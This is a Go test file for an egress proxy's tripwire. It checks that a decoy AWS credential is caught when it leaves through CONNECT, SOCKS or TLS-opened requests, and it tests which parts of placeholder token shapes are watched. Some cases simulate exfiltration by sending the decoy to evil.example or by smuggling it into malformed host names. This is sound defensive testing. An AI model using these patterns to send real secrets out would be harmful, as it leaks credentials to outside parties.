package egress

import (
	"crypto/rand"
	"encoding/hex"
	"net/http"
	"strings"
	"testing"

	"ringwall/internal/egress/credform"
	"ringwall/internal/egress/tripwire"
)

func trap(r *rig) {
	r.cfg.Decoys = []tripwire.Value{{Name: "~/.aws/credentials", Kind: tripwire.Decoy, Cores: []string{theDecoy}}}
}

// TestDecoyInAProxysTarget: the name that a proxy is asked to connect to is
// looked at, allowed or not, well formed or not.
func TestDecoyInAProxysTarget(t *testing.T) {
	name := func(s string) string { return labels(hex.EncodeToString([]byte(s))) }
	for what, send1 := range map[string]func(t *testing.T, s string){
		"CONNECT": func(t *testing.T, s string) {
			talk(t, "CONNECT "+name(s)+":443 HTTP/1.1\r\nHost: "+name(s)+":443\r\n\r\n")
		},
		"CONNECT, a header": func(t *testing.T, s string) {
			talk(t, "CONNECT evil.example:443 HTTP/1.1\r\nProxy-Authorization: Basic "+s+"\r\n\r\n")
		},
		"CONNECT, malformed": func(t *testing.T, s string) { talk(t, "CONNECT "+s+"@x:443 HTTP/1.1\r\n\r\n") },
		"absolute form": func(t *testing.T, s string) {
			talk(t, "GET http://"+name(s)+"/ HTTP/1.1\r\nHost: "+name(s)+"\r\n\r\n")
		},
		"SOCKS": func(t *testing.T, s string) {
			send(t, dialTest(t, proxyAddr()), append([]byte{5, 1, 0}, socksByName(name(s), 443)...))
		},
		"SOCKS, malformed": func(t *testing.T, s string) {
			send(t, dialTest(t, proxyAddr()), append([]byte{5, 1, 0}, socksByName(s+"/evil", 443)...))
		},
	} {
		for _, text := range []string{theDecoy, theOther} {
			r := newProxyRig(t, nobody(t), allow("a.example", 443))
			trap(r)
			r.start(t)
			send1(t, text)
			r.Close()
			if all := r.journal.alarms(); (len(all) == 1) != (text == theDecoy) || len(all) > 0 && all[0].Rule != "" {
				t.Errorf("%s, %s: %+v", what, text, all)
			}
		}
	}
}

// TestDecoyInsideTLS: where TLS is opened, heads and bodies are looked at, with
// both versions of HTTP. Where it is not, nobody sees them.
func TestDecoyInsideTLS(t *testing.T) {
	for _, opened := range []bool{true, false} {
		for _, second := range []bool{true, false} {
			for _, part := range []string{inHeader, inBody, inPath} {
				for _, text := range []string{theDecoy, theOther} {
					caught := opened && text == theDecoy
					r, trusts := newOpeningRig(t, opens("a.example", 443)), true
					if !opened {
						r = newOpeningRig(t, allow("a.example", 443))
						trusts = false
					}
					trap(r.rig)
					r.start(t)
					who := r.own
					if !trusts {
						who = r.far
					}
					_, err := r.client(t, "a.example", who, second).Do(carrying(t, part, text))
					r.Close()
					all := r.journal.alarms()
					early := err == nil && part == inBody // the server answers without waiting for it
					if (len(all) == 1) != caught || (err != nil) != caught && !early || caught && (all[0].Where != part || all[0].To != "a.example:443") {
						t.Errorf("opened %v, HTTP/2 %v, %s, %s: %+v, %v", opened, second, part, text, all, err)
					}
				}
			}
		}
	}
}

// carrying is a request with a text in one of its parts.
func carrying(t *testing.T, part, text string) *http.Request {
	t.Helper()
	path, body := "/", ""
	switch part {
	case inBody:
		body = text
	case inPath:
		path = "/" + text
	}
	req, err := http.NewRequest("POST", "https://a.example"+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if part == inHeader {
		req.Header.Set("X-Trace", text)
	}
	return req
}

// TestWatched: of every shape of a placeholder its random parts are looked for,
// if they are a proof, and nothing of what is the same for everybody.
func TestWatched(t *testing.T) {
	random := func(b []byte) error {
		_, err := rand.Read(b)
		return err
	}
	for shape, want := range map[string]int{
		"sk-ant-api03-%93u-AA": 93, "ringwall-placeholder-%s": 48, "%32h": 32, "ghp_%36a": 36, "%40b": 40,
		"xoxb-%12d-%13d-%24a": 24, "sgamp_user_%26A_%64h": 90, "short-%8a": 0, "fixed": 0,
	} {
		text, err := credform.Placeholder(shape, random)
		if err != nil {
			t.Fatal(err)
		}
		n := 0
		for _, core := range Watched(shape, text) {
			if !strings.Contains(text, core) {
				t.Errorf("%s: %q is no part of %q", shape, core, text)
			}
			n += len(core)
		}
		if n != want {
			t.Errorf("%s: %d characters are looked for, not %d", shape, n, want)
		}
		if got := Watched(shape, text+"x"); len(got) != 0 {
			t.Errorf("%s: of another text: %q", shape, got)
		}
	}
	id, err := credform.Placeholder(credform.IDShape, random)
	if err != nil {
		t.Fatal(err)
	}
	if got := Watched("%40b", credform.Value{Secret: "not of the shape", ID: id}.Encode()); len(got) != 0 {
		t.Errorf("of an identifier, which is no secret: %q", got)
	}
}
